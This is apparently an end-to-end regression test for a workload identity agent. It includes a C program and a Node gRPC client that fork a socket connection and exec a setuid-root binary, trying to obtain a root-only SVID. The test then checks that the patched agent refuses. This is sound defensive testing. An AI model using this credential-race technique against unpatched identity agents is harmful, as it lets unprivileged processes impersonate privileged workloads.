/**
 * The privilege escalation of issue 17 item 1, reproduced with real
 * processes against a real server and agent: a process running as uid 65534
 * connects to the Workload API socket, forks a child that keeps the
 * connection, and then execs a setuid-root binary (same pid, now effective
 * uid 0). The child calls FetchX509SVID on the inherited connection. The
 * agent used to read the *current* ids of the connecting pid from /proc and
 * hand out the SVID registered for uid 0. Now the selectors come from the
 * credentials the kernel recorded at connect (uid 65534), and since /proc no
 * longer agrees with them, the call is refused with PermissionDenied.
 *
 * The attacker is a small C program built here (the fork and exec must happen
 * in the process that connected); the child speaks gRPC over the inherited
 * descriptor with node:http2, so nothing in it is warrant code.
 */
import { execFileSync, spawn } from 'node:child_process'
import { chmodSync, chownSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { E2eAgent, E2eServer, waitFor } from '../helpers/e2e-cluster.js'
import { tempDir } from '../helpers/temp.js'

const isRoot = process.getuid?.() === 0
if (process.env.CI === 'true' && !isRoot) throw new Error('CI must run the setuid attack e2e test as root (it installs a setuid-root helper)')

const TD = 'example.org'
const ROOT_ONLY = `spiffe://${TD}/agents/ops/root-only`
const NOBODY_ID = `spiffe://${TD}/agents/sandbox/nobody`
const NOBODY = 65534

/**
 * connect(); fork(): the child execs the gRPC client with the connection as
 * fd 3 and a pipe to its parent as fd 4; the parent waits for a byte on the
 * pipe (the client's first call has been answered, so the agent has accepted
 * the connection), then execs `target` (or just waits).
 */
const ATTACK_C = String.raw`
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc != 5) { fprintf(stderr, "usage: attack SOCKET TARGET|- NODE CLIENT\n"); return 2; }
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a; memset(&a, 0, sizeof a); a.sun_family = AF_UNIX;
  strncpy(a.sun_path, argv[1], sizeof a.sun_path - 1);
  if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 1; }
  int p[2];
  if (pipe(p) != 0) { perror("pipe"); return 1; }
  pid_t pid = fork();
  if (pid < 0) { perror("fork"); return 1; }
  if (pid == 0) {
    if (dup2(s, 3) < 0 || dup2(p[1], 4) < 0) { perror("dup2"); _exit(1); }
    char ppid[32]; snprintf(ppid, sizeof ppid, "%d", (int)getppid());
    const char *target = argv[2];
    const char *comm = strcmp(target, "-") == 0 ? "-" : (strrchr(target, '/') ? strrchr(target, '/') + 1 : target);
    execl(argv[3], argv[3], argv[4], ppid, comm, (char *)NULL);
    perror("exec client"); _exit(1);
  }
  close(p[1]);
  char b;
  if (read(p[0], &b, 1) != 1) return 1;
  if (strcmp(argv[2], "-") == 0) { sleep(120); return 0; }
  execl(argv[2], argv[2], (char *)NULL);
  perror("exec target"); return 1;
}
`

/** The setuid-root program the connecting process becomes: it only waits. */
const SLEEPER_C = String.raw`
#include <unistd.h>
int main(void) { sleep(120); return 0; }
`

/**
 * The child: calls FetchX509SVID once on the inherited connection (fd 3),
 * tells its parent to go on (fd 4), waits until the parent runs the target
 * (its comm), calls again on the same connection and prints both outcomes as
 * one JSON line.
 */
const CLIENT_MJS = String.raw`
import net from 'node:net'
import http2 from 'node:http2'
import { readFileSync, writeSync } from 'node:fs'
const [ppid, comm] = process.argv.slice(2)
const sleep = (ms) => new Promise((r) => setTimeout(r, ms))
const sock = new net.Socket({ fd: 3, readable: true, writable: true })
const session = http2.connect('http://localhost', { createConnection: () => sock })
session.on('error', () => {})
/** spiffe_id (field 1) of each X509SVID (field 1) in an X509SVIDResponse. */
function spiffeIds(msg) {
  const out = []
  const varint = (b, at) => { let v = 0, m = 1; for (;;) { const c = b[at++]; v += (c & 0x7f) * m; m *= 128; if (c < 0x80) return [v, at] } }
  const fields = (b, f) => { let at = 0; for (;;) { if (at >= b.length) return; const [tag, a1] = varint(b, at); at = a1; const wt = tag & 7;
    if (wt === 2) { const [len, a2] = varint(b, at); f(tag >> 3, b.subarray(a2, a2 + len)); at = a2 + len } else if (wt === 0) { at = varint(b, at)[1] } else return } }
  fields(msg, (n, svid) => { if (n === 1) fields(svid, (m, v) => { if (m === 1) out.push(v.toString()) }) })
  return out
}
/** One FetchX509SVID: its first message's SPIFFE IDs, or its status. */
function fetch() {
  return new Promise((resolve) => {
    const req = session.request({ ':method': 'POST', ':path': '/SpiffeWorkloadAPI/FetchX509SVID', 'content-type': 'application/grpc', te: 'trailers', 'workload.spiffe.io': 'true' })
    req.end(Buffer.alloc(5))
    let data = Buffer.alloc(0)
    let status
    const done = (extra) => { clearTimeout(timer); req.close(); resolve({ grpcStatus: status, bytes: data.length, ...extra }) }
    const timer = setTimeout(() => done({ error: 'timeout', spiffeIds: [] }), 60000)
    req.on('response', (h) => { if (h['grpc-status'] !== undefined) status = Number(h['grpc-status']) })
    req.on('trailers', (t) => { status = Number(t['grpc-status']) })
    req.on('data', (d) => {
      data = Buffer.concat([data, d])
      if (data.length >= 5 && data.length >= 5 + data.readUInt32BE(1)) done({ spiffeIds: spiffeIds(data.subarray(5, 5 + data.readUInt32BE(1))) })
    })
    req.on('close', () => done({ spiffeIds: [] }))
  })
}
const before = await fetch()
writeSync(4, 'x')
if (comm !== '-') {
  for (let i = 0; ; i++) {
    let now = ''
    try { now = readFileSync('/proc/' + ppid + '/comm', 'utf8').trim() } catch {}
    if (now === comm.slice(0, 15)) break
    if (i > 2400) { console.log(JSON.stringify({ error: 'parent never ran ' + comm })); process.exit(1) }
    await sleep(25)
  }
}
const parentEuid = Number(/\nUid:\t(\d+)\t(\d+)/.exec(readFileSync('/proc/' + ppid + '/status', 'utf8'))[2])
const after = await fetch()
console.log(JSON.stringify({ before, parentEuid, ...after }))
process.exit(0)
`

interface Fetched {
  grpcStatus?: number
  bytes: number
  spiffeIds: string[]
  error?: string
}
interface Outcome {
  /** The first call, before the connecting process exec'd. */
  before: Fetched
  parentEuid: number
  grpcStatus?: number
  bytes: number
  spiffeIds: string[]
  error?: string
}

describe.runIf(isRoot || process.env.CI === 'true')('setuid exec after connect: the kernel credentials of the connection decide', () => {
  const tmp = tempDir('wsu-')
  let server: E2eServer
  let agent: E2eAgent
  let sleeper = ''
  let plainSleeper = ''
  let client = ''

  /** Runs the attack as uid 65534; the connecting process becomes `target` ('-': it stays as it is). */
  async function run(target: string): Promise<Outcome> {
    const child = spawn(join(tmp.dir, 'attack'), [agent.socketPath, target, process.execPath, client], {
      uid: NOBODY,
      gid: NOBODY,
      cwd: '/',
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let out = ''
    let err = ''
    child.stdout.on('data', (d: Buffer) => (out += d.toString()))
    child.stderr.on('data', (d: Buffer) => (err += d.toString()))
    try {
      const line = await waitFor('the attack client to report', () => out.split('\n').find((l) => l.startsWith('{')), { timeoutMs: 90_000, hint: () => err })
      return JSON.parse(line) as Outcome
    } finally {
      child.kill('SIGKILL') // the connecting process (now the target); the client has exited
    }
  }

  beforeAll(async () => {
    chmodSync(tmp.dir, 0o755) // uid 65534 must reach the programs and the socket
    const cc = (name: string, src: string) => {
      writeFileSync(join(tmp.dir, `${name}.c`), src)
      execFileSync('cc', ['-O2', '-o', join(tmp.dir, name), join(tmp.dir, `${name}.c`)])
      return join(tmp.dir, name)
    }
    cc('attack', ATTACK_C)
    sleeper = cc('suid-sleeper', SLEEPER_C)
    plainSleeper = cc('plain-sleeper', SLEEPER_C)
    chownSync(sleeper, 0, 0)
    chmodSync(sleeper, 0o4755) // setuid root
    client = join(tmp.dir, 'client.mjs')
    writeFileSync(client, CLIENT_MJS, { mode: 0o644 })

    server = await E2eServer.start({ dir: join(tmp.dir, 'srv'), trustDomain: TD })
    agent = E2eAgent.start({ dir: join(tmp.dir, 'ag'), server, nodeAttestor: `[plugins.node_attestor.join_token]\ntoken = "${await server.joinToken()}"\n` })
    const agentId = await agent.attested()
    for (const [id, uid] of [
      [ROOT_ONLY, 0],
      [NOBODY_ID, NOBODY],
    ] as const) {
      const r = await server.cli(['entry', 'create', '--spiffe-id', id, '--parent-id', agentId, '--selector', `unix:uid:${uid}`])
      expect(r.code, r.stderr).toBe(0)
    }
    // Both entries reached the agent: uid 65534 is served its own SVID.
    await waitFor('the entries to reach the agent', async () => ((await run('-')).spiffeIds.includes(NOBODY_ID) ? true : undefined), {
      timeoutMs: 30_000,
      hint: () => agent.output(),
    })
  }, 120_000)

  afterAll(async () => {
    await agent?.stop()
    await server?.stop()
    tmp.cleanup()
  })

  it('1. without the exec, the forked child gets the SVID of uid 65534 only', async () => {
    const r = await run('-')
    expect(r).toMatchObject({ before: { spiffeIds: [NOBODY_ID] }, parentEuid: NOBODY, spiffeIds: [NOBODY_ID] })
  }, 150_000)

  it('2. after the connecting process execs a setuid-root binary, no SVID is returned (PermissionDenied)', async () => {
    const r = await run(sleeper)
    // parentEuid 0: the attack really ran (the connecting pid is now effective root); 7: PERMISSION_DENIED.
    // Before the exec the same connection was served uid 65534's SVID.
    expect(r).toMatchObject({ before: { spiffeIds: [NOBODY_ID] }, parentEuid: 0, grpcStatus: 7, spiffeIds: [], bytes: 0 })
    await waitFor('the refusal in the agent log', () => /Workload credentials changed since it connected/.test(agent.output()) || undefined, {
      hint: () => agent.output(),
    })
    const line = agent
      .output()
      .split('\n')
      .find((l) => l.includes('Workload credentials changed since it connected'))!
    // Both views are logged: the kernel's at connect and /proc's now.
    expect(JSON.parse(line)).toMatchObject({ at_connect: { uid: NOBODY }, now: { uids: [NOBODY, 0, 0, 0] } })
  }, 150_000)

  it('3. after the connecting process execs another (not setuid) executable, the call is refused too', async () => {
    const r = await run(plainSleeper)
    // The whole outcome in one assertion, so that a failure shows what the client saw.
    expect(r).toMatchObject({ before: { spiffeIds: [NOBODY_ID] }, parentEuid: NOBODY, grpcStatus: 7, spiffeIds: [] })
    await waitFor('the refusal in the agent log', () => /Workload executable changed since it connected/.test(agent.output()) || undefined, {
      hint: () => agent.output(),
    })
  }, 150_000)
})
